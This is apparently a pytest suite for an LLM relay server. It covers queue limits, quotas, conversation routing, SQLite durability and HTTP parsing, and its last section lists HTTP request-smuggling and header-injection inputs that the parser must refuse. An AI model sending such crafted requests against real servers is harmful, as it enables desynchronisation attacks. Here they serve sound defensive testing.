    key = neuroengine_server.AccessKey("i", "d", "", 0, *[None] * 5, 0, 0, 0, None)
    desk.submit(caller="key i", access=key)
    desk.submit(by_operator=True)
    for caller in "abcdefgh":
        with contextlib.suppress(RelayError):
            desk.submit(caller=caller)
    with pytest.raises(RelayError) as refused:           # now all have one
        desk.submit(caller="modest")
    assert refused.value.name == "queue_full"
    desk.submit(caller="key i", access=key)              # but guests have room
    for _ in range(9):
        with contextlib.suppress(RelayError):
            desk.submit(by_operator=True)
    assert desk.service.queue.size == 11


def test_a_prompt_for_which_there_is_no_memory_costs_no_other_its_place():
    desk = Desk(max_queue=2, max_held_bytes=4 * 20000)
    session = desk.login(workers=2)
    for name in "cd":
        desk.submit(b"x" * 15000, caller=name)
    assert len(desk.poll(session)[0]) == 2
    waiting = [desk.submit(b"x" * 12000, caller="greedy", holder=h) for h in "ab"]
    with pytest.raises(RelayError) as refused:
        desk.submit(b"x" * 15500, caller="modest", holder="e")
    assert refused.value.name == "relay_busy"
    assert [reader.job.state for reader in waiting] == ["queued"] * 2


def test_an_operators_own_prompts_are_bounded_too():
    desk = Desk(max_queue_per_caller=2)
    desk.login()
    for _ in range(2):
        desk.submit(by_operator=True)
    with pytest.raises(RelayError) as refused:
        desk.submit(by_operator=True)
    assert refused.value.name == "rate_limited"


def test_jobs_come_back_in_the_order_in_which_they_were_submitted(desk):
    session, token = desk.login(workers=3), Poll()
    readers = [desk.submit() for _ in range(3)]
    desk.poll(session, (), token)
    desk.later(5.1)                                      # none was confirmed
    again = desk.login(workers=3)
    assert [job for job, _, _, _ in desk.poll(again)[0]] == [r.job.id for r in readers]


def test_a_full_memory_forgets_the_streams_of_its_largest_holder_first():
    desk = Desk(max_held_bytes=400000)
    session = desk.login(workers=9)
    kept = {}
    for holder, size in (("modest", 1000), ("greedy", 90000), ("third", 20000)):
        reader = desk.submit(identity=desk.identity("stream", holder), holder=holder)
        desk.poll(session)
        desk.push(session, reader.job.id, ["x" * size], done=True)
        desk.broker.leave(reader, True)
        kept[holder] = reader.job
    for n in range(9):
        desk.submit(b"x" * 30000, caller=str(n), holder=str(n))
    assert kept["modest"].id in desk.broker._jobs
    assert kept["greedy"].id not in desk.broker._jobs


@pytest.mark.parametrize("holder", ["greedy", "other"])
def test_a_kept_stream_with_a_reader_is_emptied_once(holder):
    desk = Desk(max_held_bytes=300000)
    reader, session, job = desk.start(identity=desk.identity("stream", "k"), holder="greedy")
    desk.push(session, job, ["x" * 70000], done=True)
    for n in range(9):
        with contextlib.suppress(RelayError):
            desk.submit(b"x" * 60000, caller=str(n), holder=holder + str(n // 2), wait=True)
    assert desk.broker.read(reader) == ([], True) and reader.job.error.name == "relay_busy"
    assert desk.broker.totals()[1]["held_bytes"] <= 300000


def test_a_timers_error_reaches_the_client_at_once():
    broker = Broker(Limits(offline_seconds=0.2))
    service = Service("Llm", "")
    broker.add(service)
    broker.logout(service, broker.login(service))
    service.expected_until = broker.now() + 9
    reader, told = broker.submit(Job(service, b"{}", "a")), threading.Event()
    broker.deliver_to(reader, told.set, float("inf"))
    threading.Thread(target=lambda: [None for _ in iter(broker.upkeep, False)],
                     daemon=True).start()
    assert told.wait(SOON) and reader.job.error.name == "service_offline"
    broker.close()


def test_items_that_are_objects_count_as_much_as_they_take():
    item = {"tool_calls": [{"index": 0, "function": {"arguments": "x" * 100}}] * 50}
    encoded = neuroengine_server.encoded_item(item)
    assert sys.getsizeof(encoded) <= neuroengine_server.size_of([encoded])


def test_a_job_goes_only_to_providers_that_have_the_api_it_needs(desk):
    plain, able = desk.login(), desk.login(apis=["responses"])
    reader, other = desk.submit(needs="responses"), desk.submit(caller="bob")
    assert desk.poll(plain)[0][0][0] == other.job.id
    assert desk.poll(able)[0][0][0] == reader.job.id


def test_an_urgent_job_goes_first(desk):
    session = desk.login()
    desk.submit(), desk.submit(caller="bob")
    urgent = desk.submit(caller="carol", urgent=True, needs=None)
    assert desk.poll(session)[0][0][0] == urgent.job.id


def test_quotas_of_strangers_outlive_the_process(tmp_path):
    path = str(tmp_path / "data.sqlite3")
    for n in range(2):
        store = Store(path)
        broker = Broker(Limits(max_anonymous_per_day=3))
        registry = neuroengine_server.Registry(store, broker)
        service = Service("Llm", "")
        broker.add(service)
        if n == 0:
            for _ in range(3):
                broker.submit(Job(service, b"{}", "203.0.113.1", rated=True, wait=True))
        else:
            with pytest.raises(RelayError) as refused:
                broker.submit(Job(service, b"{}", "203.0.113.1", rated=True, wait=True))
            assert refused.value.name == "quota_exceeded"
        registry.close()
    assert b"203.0.113" not in open(path, "rb").read()


def test_unused_services_are_deleted_and_their_names_reserved(
        tmp_path, monkeypatch, capfd):
    now = [time.time()]
    monkeypatch.setattr(neuroengine_server.time, "time", lambda: now[0])
    broker = Broker(wall=lambda: now[0])
    registry = neuroengine_server.Registry(Store(str(tmp_path / "data.sqlite3")), broker)
    for name in ("Never", "Once", "On"):
        registry.register(Service(name, digest(name), created=now[0]))
    broker.logout(broker.find("Once"), broker.login(broker.find("Once")))
    broker.login(broker.find("On"))
    directory = neuroengine_server.Directory(broker, registry)

    def days(number):
        for _ in range(number):
            now[0] += 86400
            registry.delete_unused()

    days(8)
    assert [s.name for s in broker.services()] == ["Once", "On"]
    registry.register(Service("Never", "other"))         # nobody had it
    days(170)
    assert "deleted_at" in directory.entry(broker.find("Once"))
    assert "deleted_at" not in directory.entry(broker.find("On"))
    days(9)
    with pytest.raises(RelayError) as refused:
        registry.register(Service("once", digest("thief")), old_digest=digest("thief"))
    assert refused.value.name == "name_taken" and not broker._services.get("once")
    registry.register(Service("Once", digest("new")), old_digest=digest("Once"))
    assert 'deleted_unused service="Once"' in capfd.readouterr().err


@pytest.mark.parametrize("restart", [False, True])
@pytest.mark.parametrize("wrong", [-50, 24], ids=["1970", "2050"])
def test_a_wrong_clock_deletes_no_service_and_counts_for_nothing(
        tmp_path, monkeypatch, wrong, restart):
    now = [time.time()]
    monkeypatch.setattr(neuroengine_server.time, "time", lambda: now[0])

    def start():
        broker = Broker(wall=lambda: now[0])
        return neuroengine_server.Registry(Store(str(tmp_path / "data.sqlite3")), broker), broker

    registry, broker = start()

    def days(number):
        for _ in range(number):
            now[0] += 86400
            registry.delete_unused()

    registry.register(Service("Never", "a", created=now[0]))
    days(6)
    jump = wrong * 365 * 86400
    now[0] += jump
    if restart:
        registry.close()
        registry, broker = start()
    registry.register(Service("Then", "b", created=now[0]))
    days(2)
    now[0] -= jump
    if restart:
        registry.close()
        registry, broker = start()
    days(6)
    assert {s.name for s in broker.services()} == {"Never", "Then"}
    days(3)
    assert not broker.services()
    registry.close()


def test_a_relay_that_was_off_for_weeks_deletes_nobody_who_could_not_connect(
        tmp_path, monkeypatch):
    now = [time.time()]
    monkeypatch.setattr(neuroengine_server.time, "time", lambda: now[0])
    path = str(tmp_path / "data.sqlite3")
    registry = neuroengine_server.Registry(Store(path), Broker(wall=lambda: now[0]))
    registry.register(Service("Never", "a", created=now[0]))
    registry.delete_unused()
    registry.close()
    now[0] += 30 * 86400
    broker = Broker(wall=lambda: now[0])
    registry = neuroengine_server.Registry(Store(path), broker)
    registry.delete_unused()
    assert broker.services()
    registry.close()


def test_quotas_that_cannot_be_saved_do_not_fill_the_memory(monkeypatch):
    monkeypatch.setattr(neuroengine_server.Quotas, "MOST", 100)
    store, broker = Store(":memory:"), Broker()
    registry = neuroengine_server.Registry(store, broker)
    save_quotas = store.save_quotas

    def full(pairs):
        raise sqlite3.OperationalError("database or disk is full")

    store.save_quotas = full
    for caller in range(500):
        broker.quotas.take("caller %d" % caller, 10, "prompts")
        registry.save()
    store.save_quotas = lambda pairs: saved.extend(pairs) or save_quotas(pairs)
    saved = []
    registry.save()
    assert len(saved) == 100 and len(store.load_quotas()) == 100
    registry.save()
    assert len(saved) == 100


def test_that_nothing_can_be_saved_is_logged_once_until_it_can(monkeypatch):
    desk, logged, troubles = Desk(), [], ["full", "broken", "", "full"]
    registry = neuroengine_server.Registry(Store(":memory:"), desk.broker)

    def cannot(services):
        trouble = troubles.pop(0)
        if trouble:
            raise sqlite3.OperationalError(trouble)
    registry._store.save = cannot
    monkeypatch.setattr(neuroengine_server, "log", lambda event, **more: logged.append(more))
    while troubles:
        registry._unsaved[""] = desk.service
        registry.save()
    assert logged == [{"error": "full"}] * 2


def test_a_clock_that_was_wrong_uses_up_no_quota():
    now = [2500000000.0]                   # in 2049
    quotas = neuroengine_server.Quotas(lambda: now[0])
    quotas.take("caller", 10, "prompts")
    now[0] = 1800000000.0
    for _ in range(10):
        quotas.take("caller", 10, "prompts")
    now[0] -= 3600                         # a little back: nothing is renewed
    with pytest.raises(RelayError):
        quotas.take("caller", 10, "prompts")


def test_a_clock_that_is_set_back_over_midnight_renews_no_access_keys_quota():
    midnight, passed = 20000 * 86400, []
    key = neuroengine_server.AccessKey("i", "d", "", 0, 1, *[None] * 4, 0, 0, 0, None)
    for now in (midnight + 5, midnight - 5, midnight + 1, midnight + 86400,
                midnight + 9 * 86400, midnight):       # the last but one was wrong
        with contextlib.suppress(RelayError):
            key.check_quota(now, 1)
            key.requests += 1
            passed.append(now - midnight)
        assert key.shown(now)["requests_today"] == 1
    assert passed == [5, 86400, 9 * 86400, 0]
    with pytest.raises(RelayError) as refused:
        key.check_quota(midnight - 5, 1)
    assert refused.value.retry_after == 86405


def test_quotas_that_have_ended_do_not_fill_the_disk():
    store = Store(":memory:")
    registry = neuroengine_server.Registry(store, Broker())
    store.save_quotas([(b"then", time.time() - 1), (b"now", time.time() + 1000)])
    registry.delete_unused()
    assert [caller for caller, _ in store.rows("quotas")] == [b"now"]


def test_a_start_while_the_clock_is_ahead_costs_nobodys_quota_its_memory(monkeypatch):
    store = Store(":memory:")
    store.save_quotas([(b"caller", time.time() + 1000)])
    ahead = time.time() + 10**7
    with monkeypatch.context() as patch:
        patch.setattr(time, "time", lambda: ahead)
        neuroengine_server.Registry(store, Broker())
    broker = Broker()
    neuroengine_server.Registry(store, broker)
    assert b"caller" in broker.quotas._due


def test_idempotency_keys_of_registrations_are_a_bounded_number():
    registry = neuroengine_server.Registry(Store(":memory:"), Broker())
    for n in range(3000):
        registry.repeatable_key("203.0.113.1", str(n), b"body")
        registry.use_repeat("203.0.113.1", str(n))
    with pytest.raises(RelayError):
        registry.refuse_used("203.0.113.1", str(n))
    assert len(registry._repeats) <= 1002


def test_timers_of_forgotten_jobs_do_not_fill_the_memory():
    """A thousand streams a second, kept for five minutes, left 100 MB of timers."""
    desk = Desk(max_held_bytes=1 << 20)    # room for 64 of one holder
    session = desk.login()
    for n in range(6000):
        reader = desk.submit(identity=desk.identity("stream", "k%d" % n))
        desk.poll(session)
        desk.push(session, reader.job.id, ["a"], done=True)
        desk.broker.leave(reader, True)
    assert len(desk.broker._jobs) < 100 and len(desk.broker._timers) < 1500
    desk.later(301)
    assert not desk.broker._jobs


def test_what_a_session_ended_is_remembered_for_a_short_time(desk):
    session = desk.login(workers=1000)
    record = desk.broker._sessions[session]
    for _ in range(500):
        reader = desk.submit()
        desk.poll(session)
        desk.push(session, reader.job.id, ["a"], done=True)
    assert len(record.ended) == 500
    for _ in range(35):
        desk.later(1)
        desk.push(session, "none")         # it is not silent
    assert not record.ended and not record.closed


def test_one_answer_has_a_bounded_number_of_readers(desk):
    """1,200 connections that read one stream made each push of its provider take 87 ms."""
    identity = desk.identity("stream", "key")
    readers = [desk.submit(identity=identity, wait=True) for _ in range(100)]
    with pytest.raises(RelayError) as refused:
        desk.submit(identity=identity, wait=True)
    assert refused.value.name == "rate_limited"
    desk.broker.leave(readers.pop())
    desk.broker.open(identity)


def test_draining_fails_the_waiting_and_lets_the_running_finish(desk):
    reader, session, job = desk.start()
    waiting = desk.submit()
    desk.broker.drain()
    assert waiting.job.error.name == "shutting_down"
    with pytest.raises(RelayError):
        desk.submit()
    desk.push(session, job, ["x"], done=True)
    assert desk.broker.read(reader) == (["x"], True) and desk.broker.nothing_runs()


def test_closing_wakes_every_waiter(desk):
    reader, session, job = desk.start()
    threads = [threading.Thread(target=desk.broker.wait_for_items, args=(reader, 1, SOON)),
               threading.Thread(target=desk.broker.poll, args=(
                   desk.service, session, Poll(), [(job, 1)])),
               threading.Thread(target=lambda: desk.broker.upkeep())]
    for thread in threads:
        thread.start()
    until(lambda: desk.broker._sessions[session].parked)
    desk.broker.close()
    for thread in threads:
        thread.join(SOON)
        assert not thread.is_alive()


def test_nothing_is_left_behind_by_ten_thousand_jobs(desk):
    session = desk.login()
    for _ in range(10000):
        reader = desk.submit()
        (job, _, _, _), = desk.poll(session)[0]
        desk.push(session, job, ["x"], done=True)
        desk.broker.read(reader)
        desk.broker.leave(reader, delivered=True)
    assert not desk.broker._jobs and len(desk.broker._timers) < 10
    assert desk.broker.totals()[1]["held_bytes"] == 0 and desk.service.numreq == 10000


def test_the_estimate_comes_from_measured_times(desk):
    reader, session, job = desk.start()
    desk.later(4)
    desk.push(session, job, ["x"], done=True)
    desk.poll(session)
    desk.submit(), desk.submit()
    place = desk.broker.queue_position(desk.submit().job)
    assert place == {"position": 3, "waiting": 3, "eta_s": 12.0, "connected": True}


##############################################################################
# Affinity: conversations and several providers
##############################################################################


def turns(*texts):
    """The messages of a conversation in which these were said in turn."""
    return [{"role": "user" if n % 2 == 0 else "assistant", "content": text}
            for n, text in enumerate(texts)]


class Conversations(Desk):
    """A desk with two providers."""

    def __init__(self, workers=1, **limits):
        super().__init__(**limits)
        self.near, self.far = self.login(workers=workers), self.login(workers=workers)

    def ask(self, *texts, **facts):
        return self.submit(prefixes=neuroengine_server.prefixes_of(
            self.service, turns(*texts)), **facts)

    def take(self, session):
        """The id of the job that a session gets, if any."""
        (jobs, _) = self.poll(session)
        return jobs[0][0] if jobs else None

    def answer(self, session, job, seconds=0.0):
        self.later(seconds)
        return self.push(session, job, ["x"], done=True)[1]    # and gets the next

    def measured(self, seconds):
        """Two turns, of which the first took so long to read and the second no time."""
        self.ask("a")
        self.answer(self.near, self.take(self.near), seconds)
        self.ask("a", "x", "b")
        self.answer(self.near, self.take(self.near))


def test_the_next_prompt_of_a_conversation_goes_to_the_session_that_had_it():
    desk = Conversations()
    for texts, session, other in ((("a",), desk.near, desk.far),
                                  (("b",), desk.far, desk.near)):
        desk.ask(*texts)
        desk.answer(session, desk.take(session))
        desk.ask(*texts, "x", "and then?")
        assert desk.take(other) is None
        desk.answer(session, desk.take(session))
    assert desk.broker.counts["continued"] == 2


def test_a_free_session_is_waited_for_only_as_long_as_it_takes_to_poll():
    desk = Conversations()
    desk.ask("a")
    desk.answer(desk.near, desk.take(desk.near))
    desk.ask("a", "x", "b")
    desk.later(0.6)
    assert desk.take(desk.far)


def test_a_busy_session_is_waited_for_if_that_was_measured_to_be_worth_it():
    desk = Conversations()
    desk.measured(4.0)
    desk.ask("of somebody else", caller="bob")
    busy = desk.take(desk.near)
    reader = desk.ask("a", "x", "b", "x", "c")
    assert desk.take(desk.far) is None
    assert desk.answer(desk.near, busy, 2.0) == [reader.job.id]


def test_a_session_that_stays_busy_for_too_long_is_not_waited_for():
    desk = Conversations()
    desk.measured(4.0)
    desk.service.job_seconds = 60.0
    desk.ask("of somebody else", caller="bob")
    desk.take(desk.near)
    reader = desk.ask("a", "x", "b", "x", "c")
    assert desk.take(desk.far) == reader.job.id


def test_a_reserved_prompt_goes_to_anyone_when_its_session_has_gone():
    desk = Conversations()
    desk.measured(4.0)
    desk.ask("a", "x", "b", "x", "c")
    assert desk.take(desk.far) is None
    desk.broker.logout(desk.service, desk.near)
    assert desk.take(desk.far)


def test_a_reserved_prompt_holds_up_no_other():
    desk = Conversations()
    desk.measured(4.0)
    first, second = desk.ask("a", "x", "b", "x", "c"), desk.ask("new")
    other = desk.ask("of somebody else", caller="bob")
    assert desk.take(desk.far) == second.job.id            # of the same caller
    assert desk.take(desk.near) == other.job.id            # whose turn it is
    assert first.job.state == "queued"


def test_only_the_limits_that_turn_something_off_may_be_0():
    assert neuroengine_server.limit_type("max_conversations")("0") == 0
    assert neuroengine_server.limit_type("max_conversations")("7") == 7
    with pytest.raises(argparse.ArgumentTypeError):
        neuroengine_server.limit_type("max_queue")("0")


def test_without_remembered_conversations_any_session_gets_a_prompt():
    desk = Conversations(max_conversations=0)
    desk.measured(4.0)
    desk.ask("a", "x", "b", "x", "c")
    assert desk.take(desk.far) and not desk.broker._affinity._last


def test_the_oldest_conversations_are_forgotten():
    desk = Conversations(max_conversations=3)
    for text in "abcdef":
        desk.ask(text)
        desk.answer(desk.near, desk.take(desk.near))
    assert len(desk.broker._affinity._last) == 3


@pytest.mark.parametrize("path, field", (
    ("/%s", "messages"), ("/v1/chat/completions", "messages"), ("/v1/responses", "input"),
    ("/v1/messages", "messages")))
def test_a_conversation_keeps_its_provider_through_every_api(relay, path, field, monkeypatch):
    monkeypatch.setattr(neuroengine_server, "POLL_GAP_SECONDS", 60)
    first = Hand(relay, apis=["responses", "messages"])
    second = first.call("login", workers=1, apis=["responses", "messages"])["session"]
    path = path.replace("%s", first.name)

    def turn(messages):
        answer = in_thread(ask, relay, path, {"model": first.name, field: messages,
                                              "max_tokens": 9})
        until(lambda: first.relay.broker.find(first.name).queue.size)
        return answer
    for messages in (turns("a"), turns("a", "x", "b")):
        answer = turn(messages)
        if len(messages) > 1:              # it is free as well
            assert not first.call("reply", session=second, replies=[])["jobs"]
        job = first.next_job()
        first.reply(job, [{"result": "{}"}] if job["request"].get("opaque") else ["x"],
                    done=True)
        assert answer()[0] == 200
    first.logout()


def test_only_what_may_be_one_conversation_has_prefixes():
    desk, of = Conversations(), neuroengine_server.prefixes_of
    long = "x" * neuroengine_server.LEADING_CHARACTERS
    assert of(desk.service, long + "a") == of(desk.service, long + "b")
    assert of(desk.service, "a") != of(desk.service, "b")
    first, second = (of(desk.service, turns("a", "x", text)) for text in "bc")
    assert first[:2] == second[:2] and first[2] != second[2]
    assert of(desk.service, [1, 2]) == of(desk.service, None) == ()
    desk.broker.logout(desk.service, desk.far)
    assert of(desk.service, "a") == ()                     # there is no choice


##############################################################################
# Store
##############################################################################


def test_services_and_counters_survive(tmp_path):
    path = str(tmp_path / "data.sqlite3")
    store = Store(path)
    service = Service("Llm", "digest", "me", "a comment", 123.0)
    store.add(service)
    service.numreq, service.last_seen = 41, 456.0
    store.save([service])
    store.close()
    loaded, = Store(path).load()
    assert vars(loaded) == dict(vars(service), **{
        name: getattr(loaded, name) for name in (
            "sessions", "idle", "queue", "keys", "features")})


def test_access_keys_and_their_use_survive_and_go_with_their_service(tmp_path):
    path = str(tmp_path / "data.sqlite3")
    store, service = Store(path), Service("Llm", "digest", private=True)
    store.add(service)
    key = neuroengine_server.AccessKey("id", "hash", "Ann", 1.0, 5, 6, 7, 8, 9.0, 2, 3, 4, 1.5)
    store.add_key(service, key)
    service.keys["hash"] = key
    key.requests = 33
    store.save([service])
    store.close()
    store = Store(path)
    loaded, = store.load()
    assert loaded.private and all(
        getattr(loaded.keys["hash"], column) == getattr(key, column)
        for column in neuroengine_server.AccessKey.COLUMNS)
    store.remove(service)
    store.add(service)
    assert not store.load()[0].keys


VERSION_1 = """
    CREATE TABLE services (
        name TEXT PRIMARY KEY COLLATE NOCASE, key_digest TEXT NOT NULL,
        operator TEXT NOT NULL, comment TEXT NOT NULL, created REAL NOT NULL,
        numreq INTEGER NOT NULL, last_seen REAL,
        private INTEGER NOT NULL, paused INTEGER NOT NULL);
    CREATE TABLE keys (
        service TEXT NOT NULL COLLATE NOCASE REFERENCES services ON DELETE CASCADE,
        id TEXT PRIMARY KEY, digest TEXT NOT NULL, label TEXT NOT NULL,
        created REAL NOT NULL, requests_per_day INTEGER, tokens_per_day INTEGER,
        concurrency INTEGER, max_new_len INTEGER, expires REAL,
        day INTEGER, requests INTEGER, tokens INTEGER, last_used REAL);
    INSERT INTO services VALUES ('Llm', 'd1', 'me', 'a comment', 1.5, 41, 4.5, 1, 0);
    INSERT INTO services VALUES ('other', 'd2', '', '', 2.5, 0, NULL, 0, 1);
    INSERT INTO keys VALUES ('Llm', 'id', 'hash', 'Ann', 1, 5, 6, 7, 8, 9, 2, 3, 4, 1.5);
    PRAGMA user_version=1"""


def test_a_file_of_version_1_is_migrated_with_all_its_data(tmp_path):
    path = str(tmp_path / "data.sqlite3")
    with contextlib.closing(sqlite3.connect(path)) as db:
        db.executescript(VERSION_1)
    with contextlib.closing(Store(path, existing=True)) as store:
        assert store.version == 1                # a relay may be using it: left as it is
    for _ in range(2):                           # the second time there is nothing to do
        store = Store(path)
        llm, other = store.load()
        assert [getattr(llm, name) for name in neuroengine_server.SERVICE_COLUMNS] == [
            "Llm", "d1", "me", "a comment", 1.5, 41, 4.5, True, False, None, "[]", 0]
        assert [getattr(other, name) for name in neuroengine_server.SERVICE_COLUMNS] == [
            "other", "d2", "", "", 2.5, 0, None, False, True, None, "[]", 0]
        key, = llm.keys.values()
        assert [getattr(key, name) for name in key.COLUMNS] == [
            "id", "hash", "Ann", 1, 5, 6, 7, 8, 9, 2, 3, 4, 1.5]
        assert store.version == len(neuroengine_server.MIGRATIONS)
        store.close()


def test_a_migration_that_fails_leaves_the_file_as_it_was(tmp_path, monkeypatch):
    path = str(tmp_path / "data.sqlite3")
    with contextlib.closing(sqlite3.connect(path)) as db:
        db.executescript(VERSION_1)
    steps = neuroengine_server.MIGRATIONS
    monkeypatch.setattr(neuroengine_server, "MIGRATIONS", steps + (
        ("CREATE TABLE more (x)", "no SQL at all"),))
    with pytest.raises(neuroengine_server.StoreError, match="no"):
        Store(path)
    monkeypatch.setattr(neuroengine_server, "MIGRATIONS", steps)
    store = Store(path)                          # each step was whole, or is not there
    assert store.version == len(steps) and len(store.load()) == 2
    assert not store._db.execute("SELECT * FROM sqlite_master WHERE name='more'").fetchall()


def test_saving_writes_only_counters(tmp_path):
    store, other = (Store(str(tmp_path / "data.sqlite3")) for _ in range(2))
    store.add(Service("Llm", "old"))
    service, = store.load()
    before = store.changes()
    other.change(service, key_digest="new", comment="changed")
    assert store.changes() != before
    service.numreq = 7
    store.save([service])
    loaded, = store.load()
    assert (loaded.key_digest, loaded.comment, loaded.numreq) == ("new", "changed", 7)


WRITERS = """
import itertools, os, sys
from neuroengine_server import AccessKey, Service, Store

def write(run):
    store = Store(sys.argv[1])
    for n in itertools.count():
        service = Service("run%s.%d" % (run, n), "digest", created=n)
        store.add(service)
        key = AccessKey(service.name, service.name, "", 0, *9 * [None])
        store.add_key(service, key)
        os.write(1, b"%s\\n" % service.name.encode())   # whole, whoever else writes
        service.numreq = n
        store.save([service])

for run in map(str.strip, sys.stdin):      # a process for each, without its own start
    pid = os.fork()
    if not pid:
        write(run)
    os.write(1, b"%d\\n" % pid)
    os.waitpid(pid, 0)
    os.write(1, b"killed\\n")
"""


@pytest.mark.skipif(os.name == "nt", reason="needs SIGKILL")
def test_acknowledged_changes_survive_kill_9(tmp_path):
    path, acknowledged, choose = str(tmp_path / "data.sqlite3"), set(), random.Random(1)
    process = subprocess.Popen([sys.executable, "-c", WRITERS, path], cwd=HERE,
                               stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    for run in range(15):
        process.stdin.write(b"%d\n" % run)
        process.stdin.flush()
        lines = [process.stdout.readline()]
        while len({line[:3] == b"run" for line in lines}) < 2:  # its number, and a service
            lines.append(process.stdout.readline())
        time.sleep(choose.uniform(0, 0.1))
        os.kill(int(next(line for line in lines if line[:1].isdigit())), signal.SIGKILL)
        lines += iter(process.stdout.readline, b"killed\n")
        acknowledged.update(line.decode().strip() for line in lines if line[:3] == b"run")
        with contextlib.closing(Store(path)) as store:    # which looks whether it is whole
            services = {service.name: service for service in store.load()}
        for name in acknowledged:
            assert name in services[name].keys
    assert len(acknowledged) >= 15
    process.stdin.close()
    assert process.wait(SOON) == 0
    process.stdout.close()


def test_a_backup_during_writes_is_whole_and_private(tmp_path):
    path, copy = str(tmp_path / "data.sqlite3"), tmp_path / "copy"
    store, acknowledged, stop = Store(path), [], threading.Event()

    def write():
        while not stop.is_set():
            service = Service("s%d" % len(acknowledged), "digest")
            store.add(service)
            acknowledged.append(service.name)
    thread = threading.Thread(target=write)
    thread.start()
    until(lambda: len(acknowledged) > 50)
    before = list(acknowledged)
    assert neuroengine_server.main(["backup", str(copy), "--data", path]) == 0
    stop.set()
    thread.join(SOON)
    assert os.name == "nt" or copy.stat().st_mode & 0o777 == 0o600
    assert neuroengine_server.main(["backup", str(copy), "--data", path]) == 1
    restored = [service.name for service in Store(str(copy)).load()]
    assert len(set(restored)) == len(restored) and set(restored) >= set(before)
    assert sorted(os.listdir(str(tmp_path)))[0] == "copy"
    store.close()


@pytest.mark.skipif(os.name == "nt", reason="no such modes on Windows")
def test_the_data_file_is_private(tmp_path):
    path = tmp_path / "data.sqlite3"
    Store(str(path)).close()
    assert path.stat().st_mode & 0o777 == 0o600


def test_what_is_written_is_on_the_disk_before_it_is_answered(tmp_path):
    with contextlib.closing(Store(str(tmp_path / "data.sqlite3"))) as store:
        assert store._value("PRAGMA synchronous") == 2           # FULL


def test_a_newer_or_broken_data_file_is_refused_in_words(tmp_path):
    newer, broken, torn = (tmp_path / name for name in ("newer", "broken", "torn"))
    with contextlib.closing(sqlite3.connect(str(newer))) as db:
        db.execute("PRAGMA user_version=99")
    broken.write_bytes(b"this is no database, not at all" * 100)
    with contextlib.closing(Store(str(torn))) as store:
        for n in range(100):
            store.add(Service("llm%d" % n, "digest" * 10, created=n))
    data = bytearray(torn.read_bytes())
    data[8192:12288] = os.urandom(4096)          # a page in the middle
    torn.write_bytes(data)
    for path, words in ((newer, "newer"), (broken, "damaged"), (torn, "damaged")):
        before = path.read_bytes()
        with pytest.raises(neuroengine_server.StoreError, match=words) as refused:
            Store(str(path))
        assert str(path) in str(refused.value) and "\n" not in str(refused.value)
        assert path.read_bytes() == before
    with pytest.raises(neuroengine_server.StoreError, match="No such file"):
        Store(str(tmp_path / "nosuch"), existing=True)
    assert not (tmp_path / "nosuch").exists()


def test_a_key_is_stored_as_its_hash_alone(relay, tmp_path):
    path = str(tmp_path / "data.sqlite3")
    store = Store(path)
    key = neuroengine_server.new_key()
    store.add(Service("Llm", neuroengine_server.digest(key)))
    store.close()
    content = b"".join(file.read_bytes() for file in tmp_path.iterdir())
    assert key.encode() not in content
    assert neuroengine_server.digest(key).encode() in content


##############################################################################
# HTTP reader
##############################################################################

GOOD_HEAD = b"POST /a HTTP/1.1\r\nHost: localhost\r\n"


@pytest.mark.parametrize("head", [
    b"GET /\r\nHost: localhost\r\n", b"GET / HTTP/2.0\r\nHost: localhost\r\n",
    b"GET / HTTP/1.1\r\n",
    b"GET  / HTTP/1.1\r\nHost: localhost\r\n", b"GET /a b HTTP/1.1\r\nHost: localhost\r\n",
    b"G\x00T / HTTP/1.1\r\nHost: localhost\r\n", b"GET / HTTP/1.1\nHost: localhost\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nHost: localhost\r\n", b"GET / HTTP/1.1\r\nHost: a b\r\n",
    b"GET / http/1.1\r\nHost: localhost\r\n", b"GET / HTTP/1.1 \r\nHost: localhost\r\n",
    b"GET a HTTP/1.1\r\nHost: localhost\r\n", b"GET * HTTP/1.1\r\nHost: localhost\r\n",
    b"CONNECT host:443 HTTP/1.1\r\nHost: localhost\r\n",
    GOOD_HEAD + b"Content-Length: 3\r\nContent-Length: 3\r\n",
    GOOD_HEAD + b"Content-Length: +3\r\n", GOOD_HEAD + b"Content-Length: 1_0\r\n",
    GOOD_HEAD + b"Content-Length: -1\r\n", GOOD_HEAD + b"Content-Length: 0x3\r\n",
    GOOD_HEAD + b"Content-Length: \xb2\r\n", GOOD_HEAD + b"Content-Length: 3, 3\r\n",
    GOOD_HEAD + b"Content-Length: 9999999999999999\r\n", GOOD_HEAD + b"Content-Length:\r\n",
    GOOD_HEAD + b"Content-Length : 3\r\n", GOOD_HEAD + b"X Y: 3\r\n", GOOD_HEAD + b": 3\r\n",
    GOOD_HEAD + b"no colon\r\n", GOOD_HEAD + b"X: a\r\n folded\r\n", GOOD_HEAD + b" X: a\r\n",
    GOOD_HEAD + b"X: a\rb\r\n", GOOD_HEAD + b"X: a\nb\r\n", GOOD_HEAD + b"X: a\x00b\r\n",
    GOOD_HEAD + b"X: a\x0bb\r\n",
    GOOD_HEAD + b"Transfer-Encoding: chunked\r\nContent-Length: 3\r\n",
    GOOD_HEAD + b"Transfer-Encoding: gzip, chunked\r\n",
    GOOD_HEAD + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    GOOD_HEAD + b"Transfer-Encoding: xchunked\r\n", GOOD_HEAD + b"Transfer-Encoding: \r\n",
    b"POST /a HTTP/1.0\r\nTransfer-Encoding: chunked\r\n",
    GOOD_HEAD + b"Authorization: a\r\nAuthorization: b\r\nContent-Length: 0\r\n",
    GOOD_HEAD + b"A: b\r\n" * 65,
])
def test_an_ambiguous_or_malformed_head_is_refused(head):
    with pytest.raises(RelayError) as refused:
        parse_head(head)
    assert neuroengine_server.ERRORS[refused.value.name].status in (400, 405, 411)


@pytest.mark.parametrize("target, path", [
    (b"/", ()), (b"/a", ("a",)), (b"//a//b/", ("a", "b")), (b"/a%20b?c=d", ("a b",)),
    (b"http://host/a", ("a",)), (b"/a%2Fb", ("a", "b")),
])
def test_paths_are_decoded_and_empty_segments_do_not_count(target, path):
    assert parse_head(b"GET " + target + b" HTTP/1.1\r\nHost: localhost\r\n").path == path


def test_long_paths_lead_nowhere_and_are_not_remembered():
    """250 of them stayed in memory, 45 MB of them."""
    find, cached = neuroengine_server.find_route, neuroengine_server.cached_route
    cached.cache_clear()
    for path in (("a",) * 17, ("x" * 513,), ("x" * 200,) * 3):
        assert find(path) == (None, ())
    assert cached.cache_info().currsize == 0
